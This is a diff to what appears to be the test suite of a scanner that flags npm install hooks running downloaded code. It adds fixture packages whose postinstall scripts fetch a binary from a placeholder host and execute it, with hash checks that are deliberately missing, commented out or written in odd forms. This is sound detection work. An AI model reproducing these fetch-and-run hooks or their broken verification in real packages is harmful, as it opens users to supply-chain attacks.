@@ -16,6 +16,32 @@ const CHAINS =
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'an installer works out a hash of what it saved and compares it with nothing',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
+        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { spawnSync } = require('child_process'); const known = '${'0123456789abcdef'.repeat(4)}'; const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { exports.seen = createHash('sha256').update(fs.readFileSync(file)).digest('hex'); spawnSync(file, ['run']); }));`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an installer compares the hash of something else, and that of what it saved in a comment',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
+        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), { createHash } = require('crypto'), { spawnSync } = require('child_process'); const known = '${'0123456789abcdef'.repeat(4)}'; if (createHash('sha256').update(known).digest('hex') === known) throw new Error('changed');
+          const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { // if (createHash('sha256').update(fs.readFileSync(file)).digest('hex') !== known) throw new Error('changed');
+          spawnSync(file, ['run']); }));`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the hash of what was saved is kept, compared later and written in other letters',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
+        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), crypto = require('crypto'), { spawnSync } = require('child_process'); const known = '${'0123456789abcdef'.repeat(4)}'; const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { const found = crypto.createHash( 'SHA256' ).update(fs.readFileSync(file)).digest('hex'); if (known !== found) throw new Error('changed'); spawnSync(file, ['run']); }));`,
+      },
+      weight: 'weak',
+    },
+    {
       when: 'an installer compares what it saved with a hash that it has',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
